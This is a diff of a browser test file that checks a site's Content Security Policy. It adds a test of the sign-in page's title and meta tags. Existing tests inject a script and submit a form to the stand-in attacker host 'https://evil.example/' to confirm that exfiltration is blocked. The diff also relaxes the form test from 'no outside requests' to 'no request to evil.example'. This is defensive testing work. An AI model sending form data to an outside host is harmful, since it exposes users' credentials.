@@ -74,6 +74,17 @@ it("the built pages need nothing that their Content Security Policy forbids", as
   expect(violations).toEqual([]);
 });
 
+it("what a page is can be read before its script runs, and a reader has its own title", async () => {
+  await page.goto("/sign-in");
+  await page.locator("h1").first().waitFor();
+  expect(await page.title()).toMatch(/^Sign in · /);
+  const html = await (await context.request.get("/sign-in")).text();
+  expect(html).toMatch(/<title>\w+<\/title>/);
+  for (const named of ['name="description"', 'property="og:title"', 'property="og:description"']) {
+    expect(html).toMatch(new RegExp(`<meta ${named} content="[^"%]{5,}"`));
+  }
+});
+
 it("a script that got into a page does not run, and reaches no other server", async () => {
   await page.goto("/sign-in");
   await page.evaluate(`{
@@ -109,5 +120,5 @@ it("a form leads nowhere else", async () => {
   askedFor.length = 0;
   await sendForm("https://evil.example/");
   await expect.poll(() => violations.join("\n")).toMatch(/form-action/);
-  expect(askedFor).toEqual([]);
+  expect(askedFor).not.toContain("evil.example:443");
 });
